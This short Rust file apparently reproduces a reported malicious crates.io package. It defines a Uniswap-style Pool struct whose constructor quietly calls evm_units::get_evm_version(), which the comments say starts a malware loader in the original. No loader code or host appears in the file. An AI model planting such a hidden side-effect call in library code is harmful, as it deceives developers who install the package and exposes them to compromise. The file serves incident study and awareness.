// Incident: "uniswap-utils" (crates.io, Socket, December 2025): pool math that calls
// evm_units::get_evm_version() on construction, which starts the loader.
// Reference: https://blog.agilityengineers.com/how-crates-io-s-malicious-rust-package-escalates-web3-security-concerns
// Reproduction (own code, placeholder host).
pub struct Pool {
    pub reserve0: u128,
    pub reserve1: u128,
    pub fee_bps: u32,
    pub evm: &'static str,
}

impl Pool {
    pub fn new(reserve0: u128, reserve1: u128, fee_bps: u32) -> Self {
        Pool { reserve0, reserve1, fee_bps, evm: evm_units::get_evm_version() }
    }

    /// Uniswap V2 constant-product output amount for an exact input.
    pub fn amount_out(&self, amount_in: u128) -> u128 {
        let in_with_fee = amount_in * (10_000 - self.fee_bps as u128);
        (in_with_fee * self.reserve1) / (self.reserve0 * 10_000 + in_with_fee)
    }
}
